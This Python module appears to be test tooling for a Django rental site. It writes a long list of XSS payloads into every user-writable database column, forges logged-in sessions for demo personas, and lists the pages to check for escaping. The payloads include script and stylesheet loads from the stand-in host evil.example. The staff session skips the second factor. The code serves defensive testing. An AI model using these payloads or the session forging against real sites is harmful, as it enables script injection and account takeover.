"""Texts that would run as a script if a page forgot to escape them, and every column into which people write.

`fill` runs in a process that has the settings of the site: it puts the texts into its database and lets people in.
"""

import json
from collections.abc import Iterator
from datetime import timedelta
from urllib.parse import quote

from django.apps import apps
from django.contrib.admin import ModelAdmin
from django.contrib.auth import BACKEND_SESSION_KEY, HASH_SESSION_KEY, SESSION_KEY
from django.db import connection, models
from django.http import HttpRequest
from django.test import RequestFactory
from django.utils import timezone

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>window.__xss=1</script >",
    "</script><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</style><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script><!--",
    "]]><script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=x onerror='alert(1)'//",
    "<img/src='x'/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)` onerror=alert(1)>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=alert(1)//",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><button autofocus>x",
    "<a href=javascript:window.__xss=1>x</a>",
    "javascript:window.__xss=1//",
    "data:text/html,<script>window.__xss=1</script>",
    '" onmouseover="window.__xss=1" autofocus onfocus="window.__xss=1" x="',
    "' onmouseover='window.__xss=1' autofocus onfocus='window.__xss=1' x='",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    '\\"};window.__xss=1;//',
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "＜script＞window.__xss=1＜/script＞<\u2028script>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7|add:7 }}{% debug %}${alert(1)}#{alert(1)}%(x)s{0.__class__}",
    "<div hx-get=/account hx-trigger=load hx-on::load=window.__xss=1>",
    "\u202e>tpircs/<1=ssx__.wodniw>tpircs<\u2066<script>window.__xss=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
]
ALL = " ".join(PAYLOADS)
TEXTS = [ALL, *PAYLOADS]

# Columns that people fill, be they guests, hosts or staff. A new one goes here, or below with the reason why not.
FILLED = {
    "accounts.ApiKey": ("name",),
    "accounts.Identity": ("real_name", "reason"),
    "accounts.Session": ("device",),
    "accounts.StaffAct": ("about", "reason"),
    "accounts.User": ("name", "about"),
    "bookings.Booking": ("reason",),
    "bookings.BookingEvent": ("reason",),
    "bookings.Payout": ("bank_reference",),
    "bookings.Refund": ("reason", "said"),
    "bookings.Trade": ("said",),
    "bookings.StrayNotice": ("why",),
    "bookings.Settlement": ("reason",),
    "listings.MissedSearch": ("query",),
    "listings.Report": ("words", "outcome"),
    "listings.Area": ("name", "name_en", "city", "city_en"),
    "listings.Facility": ("name", "name_en"),
    "listings.House": (
        "title", "address", "unit", "beds", "description", "house_rules", "directions", "status_reason",
    ),
    "listings.HouseImage": ("caption",),
    "listings.Review": ("comment", "reply"),
    "accounts.Message": ("sms_said",),
}  # fmt: skip
# Columns of text in which stands what the site itself has drawn, made or chosen from a list.
NOT_TYPED = {
    *("accounts.ApiKey.digest", "accounts.ApiKey.token_key", "accounts.Session.session_key"),
    *("accounts.Session.session_data", "accounts.Identity.seal_key", "accounts.Identity.number_digest"),
    *("accounts.Identity.consent_version", "accounts.Identity.request_key", "accounts.User.password"),
    *(
        "accounts.User.mobile",
        "accounts.User.avatar",
        "accounts.User.request_key",
        "accounts.Message.kind",
        "accounts.Message.key",
    ),
    "accounts.Message.path",  # a constraint keeps it within the site
    *("bookings.Trade.number", "bookings.Trade.provider", "bookings.Payment.provider", "bookings.Refund.number"),
    "bookings.Payment.transaction",
    *("bookings.StrayNotice.provider", "bookings.StrayNotice.digest", "bookings.Booking.request_key"),
    *("bookings.Booking.request_digest", "bookings.BookingEvent.change_key", "listings.House.request_key"),
    *("listings.House.request_digest", "listings.HouseImage.key"),
    *("accounts.StaffAct.thing", "accounts.StaffAct.address", "listings.Report.request_key"),
    "listings.Facility.icon",  # a name from a set of pictures
}
UNSEEN = {"Counter", "KeptAnswer", "OneTimeCode"}  # no page shows their rows
APPS = ("accounts", "listings", "bookings")
PERSONAS = {"guest": "+8613800138002", "host": "+8613800138001", "stranger": "+8613800138003"}
STAFF, NEWCOMER = "+8613800138000", "+8613700138020"
WORDS = 100  # characters that a search takes
ROWS_MOST = 3000  # of a model, through which one is looked for to which something may be done
# What of the site is no page that shows what people write; whatever answers no GET, or refuses it to all staff, is not
# asked for.
NO_PAGE = {
    **dict.fromkeys(("healthz", "robots", "media", "sitemap", "sitemap-part", "api-schema"), "is no HTML"),
    **dict.fromkeys(("my-data", "booking-calendar", "admin:jsi18n", "admin:autocomplete"), "is no HTML"),
    **dict.fromkeys(("months", "house-months", "house-price"), "is a part of pages that are opened"),
    **dict.fromkeys(
        ("avatar", "change-password", "close-account", "end-device", "end-other-devices"), "leads back to its form"
    ),
    **dict.fromkeys(("make-key", "revoke-key", "make-backup-codes"), "leads back unless it is sent a form"),
    "admin:accounts_apikey_change": "leads back: a key has no page of its own",
    **dict.fromkeys(("set_language", "read-messages", "admin:view_on_site"), "only leads on"),
    **dict.fromkeys(("admin:login", "admin:password_change", "admin:password_change_done"), "only leads on"),
    "admin:bookings_hostdue_pay_some": "only leads on, unless rows are chosen by POST; then it is the page of one",
    "api-docs": "shows nothing that people write",
}


def text_columns() -> Iterator[str]:
    """Yield the columns of text that are no choice from a list."""
    for model in apps.get_models():
        if model._meta.app_label in APPS and model.__name__ not in UNSEEN:
            for field in model._meta.concrete_fields:
                if isinstance(field, models.CharField | models.TextField) and not field.choices:
                    yield f"{model._meta.label}.{field.name}"


def filled_columns() -> Iterator[tuple[type[models.Model], str]]:
    """Yield model and field for each entry of FILLED whose model there is."""
    for label, names in FILLED.items():
        for name in names:
            yield apps.get_model(label), name


def fill() -> None:
    """Write the texts into every column, one a row and in the first all, and print addresses and sessions."""
    make_rows()
    people = {name: enter(mobile) for name, mobile in PERSONAS.items()}
    people |= {"newcomer": enter(NEWCOMER), "outside": enter(STAFF), "staff": enter_as_staff()}
    with connection.cursor() as cursor:
        for model, name in filled_columns():
            overwrite(cursor, model, name)
        tell_of_homes(cursor)
    print(json.dumps({"people": people, "addresses": addresses()}))  # noqa: T201 — for who has started it


def make_rows() -> None:
    """Have at least one row wherever the demo has none."""
    from accounts.models import ApiKey, Identity, StaffAct  # noqa: PLC0415 — once the apps are ready
    from bookings.factories import make_booking  # noqa: PLC0415

    user = user_of(PERSONAS["guest"])
    apps.get_model("accounts.User").objects.create_user(NEWCOMER, "x", name="x", is_staff=True)
    apps.get_model("listings.Area").objects.create(name="x", name_en="x", city="x", city_en="x")
    apps.get_model("listings.Facility").objects.create(id=60, name="x", name_en="x", icon="wifi", group="basics")
    for name in "ab":
        ApiKey.objects.create(user=user, name=name)
    StaffAct.objects.create(actor=user_of(STAFF), act="read_number", subject=user, reason="x")
    stranger = user_of(PERSONAS["stranger"])
    Identity.objects.get_or_create(user=stranger, status="rejected", reason="x", decided_at=timezone.now())
    bookings = apps.get_app_config("bookings")
    home, day = apps.get_model("listings.House").objects.filter(status="published").earliest("pk"), timezone.localdate()
    day, soon = day + timedelta(days=300), timezone.now() + timedelta(hours=9)
    make_booking(home, user, day, day + timedelta(days=2), "WAIT_PAYMENT", expires_at=soon)
    due = bookings.get_model("HostDue").objects.first()
    bookings.get_model("Payout").objects.create(due=due, bank_reference="x", actor=user_of(STAFF))
    bookings.get_model("StrayNotice").objects.create(provider="sandbox", why="x", facts={"a": ALL}, digest="x")
    paid = bookings.get_model("Booking").objects.filter(guest=user).first()
    bookings.get_model("Refund").objects.create(
        booking=paid, number="x", amount_fen=1, state="done", done_at=timezone.now()
    )
    notice = bookings.get_model("StrayNotice").objects.first()
    bookings.get_model("Settlement").objects.create(notice=notice, reason="x", actor=user_of(STAFF))
    apps.get_model("listings.MissedSearch").objects.create(
        day=timezone.localdate() - timedelta(days=40),
        query="q=x",
        position=1,  # on which nobody has searched
    )
    report = apps.get_model("listings.Report").objects.order_by("pk").last()
    report.state, report.open_slot, report.outcome, report.decided_at = "dismissed", None, "x", timezone.now()
    report.decided_by = user_of(STAFF)
    report.save()
    review = apps.get_model("listings.Review").objects.filter(house__host=user_of(PERSONAS["host"])).first()
    type(review).objects.filter(pk=review.pk).update(reply="x")
    facts = {"home": "x", "check_in": str(day), "check_out": str(day)}
    for number in range(2):  # the demo's worker may have told nobody anything yet
        message = {"kind": "booking.paid", "key": f"x{number}", "path": "/bookings", "facts": facts}
        apps.get_model("accounts.Message").objects.create(user=user, sms_said="x", **message)
    shown = {"delivered_at": timezone.now(), "due_at": None, "sms_state": "none"}
    apps.get_model("accounts.Message").objects.update(**shown)


def overwrite(cursor: object, model: type[models.Model], name: str) -> None:
    """Put a text into a column of each row, past all that forms and services would say; a reason only where one is."""
    table, column = model._meta.db_table, model._meta.get_field(name).column
    pk = model._meta.pk.column
    given = "" if name in {"name", "about", "city"} else f" WHERE {column} <> ''"
    cursor.execute(f"SELECT {pk} FROM {table}{given} ORDER BY {pk} LIMIT 5000")  # noqa: S608 — names of ours
    ids = [row[0] for row in cursor.fetchall()]
    assert ids or name in {"device", "said", "sms_said", "status_reason", "reason"}, (table, column)
    rows = [(f"{TEXTS[number % len(TEXTS)]}{number}", pk) for number, pk in enumerate(ids)]
    cursor.executemany(f"UPDATE {table} SET {column} = %s WHERE {pk} = %s", rows)  # noqa: S608


def tell_of_homes(cursor: object) -> None:
    """Name the homes in messages as they are named now."""
    cursor.execute("SELECT id, facts FROM accounts_message")
    rows = [(json.dumps({**json.loads(facts), "home": ALL}), pk) for pk, facts in cursor.fetchall()]
    cursor.executemany("UPDATE accounts_message SET facts = %s WHERE id = %s", rows)


def user_of(mobile: str) -> models.Model:
    """Return one of the demo's people."""
    return apps.get_model("accounts.User").objects.get(mobile=mobile)


def enter(mobile: str, more: dict[str, str] | None = None) -> str:
    """Log somebody in by a session in the database, and return its name."""
    from accounts.sessions import DEVICE, SEEN, STARTED, SessionStore, mark_staff  # noqa: PLC0415 — once the apps are ready

    user, session, now = user_of(mobile), SessionStore(), timezone.now().isoformat()
    session[SESSION_KEY] = str(user.pk)
    session[BACKEND_SESSION_KEY] = "django.contrib.auth.backends.ModelBackend"
    session[HASH_SESSION_KEY] = user.get_session_auth_hash()
    session.update({DEVICE: ALL, STARTED: now, SEEN: now, **(more or {})})
    if user.is_staff:
        mark_staff(session)
    session.save()
    return session.session_key


def enter_as_staff() -> str:
    """Log the demo's staff in, past the second factor."""
    from django_otp import DEVICE_ID_SESSION_KEY  # noqa: PLC0415 — once the apps are ready

    authenticator = apps.get_model("otp_totp.TOTPDevice").objects.create(user=user_of(STAFF), confirmed=True)
    return enter(STAFF, {DEVICE_ID_SESSION_KEY: authenticator.persistent_id})


def addresses() -> dict[str, list[str]]:
    """Return what each of them opens."""
    homes = apps.get_model("listings.House").objects
    mine = homes.filter(host=user_of(PERSONAS["host"])).order_by("pk").values_list("pk", flat=True)
    published = homes.filter(status="published").order_by("pk").values_list("pk", flat=True)[: len(TEXTS) + 2]
    stays, reviews = apps.get_model("bookings.Booking").objects, apps.get_model("listings.Review").objects
    guest, host = user_of(PERSONAS["guest"]), user_of(PERSONAS["host"])
    others = homes.filter(status="published").exclude(host=guest).order_by("pk").first()
    review = reviews.visible().filter(house__status="published").exclude(author=guest).order_by("pk").first()
    unpaid = stays.get(pk=unpaid_stay())
    day = timezone.localdate() + timedelta(days=200)
    dates = f"sd={day}&ed={day + timedelta(days=2)}"
    own = ["/account", "/account/profile", "/account/verification", "/account/security", "/account/mobile", "/messages"]
    own += ["/account/reports"]
    steps = ("basics", "place", "facts", "price", "review")
    return {
        "anonymous": [
            "/", "/search", f"/search?{dates}", "/search?p=3", *(f"/houses/{pk}" for pk in published),
            *(f"/search?q={quote(text)}" for text in (PAYLOADS[0], *PAYLOADS[10:40:6], ALL[:WORDS])),
            *(f"{door}?next={quote(PAYLOADS[0])}" for door in ("/login", "/register", "/password/reset")),
        ],
        "guest": [
            *own, "/bookings", f"/houses/{published[1]}/book?{dates}&guests=1",
            *(f"/bookings/{pk}" for pk in ids_of(stays.filter(guest=guest))[:8]),
            f"/bookings/{unpaid.pk}", f"/bookings/{unpaid.pk}/pay", cashier_of(guest, unpaid),
            f"/houses/{others.pk}/report", f"/reviews/{review.pk}/report", f"/hosts/{others.host_id}/report",
            f"/messages/{apps.get_model('accounts.Message').objects.get(key='x0').pk}",
        ],
        "host": [
            *own, "/host", "/host/bookings", "/host/earnings", "/host/houses/new",
            *(f"/bookings/{pk}" for pk in ids_of(stays.filter(house__host=host))[:6]),
            f"/host/bookings/{stays.filter(house__host=host, status='WAIT_ACCEPT').order_by('pk').first().pk}/reject",
            *(f"/host/houses/{mine[0]}/edit/{step}" for step in steps),
            f"/host/houses/{mine[0]}/photos", f"/host/houses/{mine[0]}/calendar",
        ],
        "stranger": [*own, f"/houses/{published[0]}"],
        "newcomer": ["/account/second-factor"],  # sets it up
        "outside": ["/account/second-factor"],  # has yet to pass it
        "staff": ["/admin/", *admin_addresses()],
    }  # fmt: skip


def unpaid_stay() -> int:
    """Return the id of a stay that the guest has still to pay."""
    waiting = apps.get_model("bookings.Booking").objects.filter(status="WAIT_PAYMENT", expires_at__gt=timezone.now())
    return waiting.filter(guest__mobile=PERSONAS["guest"]).order_by("pk").first().pk


def cashier_of(guest: models.Model, stay: models.Model) -> str:
    """Return the address at which the sandbox takes the money for a stay."""
    from bookings.paying import payment_address  # noqa: PLC0415 — once the apps are ready

    return payment_address(guest=guest, booking_id=stay.pk)


def ids_of(rows: models.QuerySet) -> list:
    """Return the ids of rows, the first that were made first."""
    return list(rows.order_by("pk").values_list("pk", flat=True))


def admin_addresses() -> Iterator[str]:
    """Yield all pages that the admin has for the demo's staff: of each model its own, and those of some of its rows."""
    from django.contrib import admin  # noqa: PLC0415 — once the apps are ready

    request = RequestFactory().get("/admin/")
    request.user = user_of(STAFF)
    yield from (f"/admin/{app}/" for app in APPS)
    for model, made in admin.site._registry.items():  # noqa: SLF001 — there is no other list
        where = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        yield where
        if made.has_add_permission(request):
            yield f"{where}add/"
        if made.waiting() is not None:
            yield f"{where}queue"
        if model.__name__ != "ApiKey":  # which has no page of its own
            yield from row_addresses(request, made, where)
    yield f"/admin/bookings/booking/calendar/{ids_of(apps.get_model('listings.House').objects)[0]}"
    due = apps.get_model("bookings.HostDue").objects.filter(payout=None)
    yield f"/admin/bookings/hostdue/{ids_of(due)[0]}/pay"


def row_addresses(request: HttpRequest, made: ModelAdmin, where: str) -> Iterator[str]:
    """Yield the pages of the first rows, of one that can be deleted, and of one for each act that may be done to it."""
    rows = list(made.get_queryset(request).order_by("pk")[:ROWS_MOST])
    for row in rows[:2]:
        yield f"{where}{row.pk}/change/"
        yield f"{where}{row.pk}/history/"
    removable = next((row for row in rows if made.has_delete_permission(request, row)), None)
    if removable:
        yield f"{where}{removable.pk}/delete/"
    for act in made.acts:
        row = next((row for row in rows if act.is_possible(row)), rows[0])  # the page asks, whether it can be or not
        yield f"{where}{row.pk}/{act.name}"
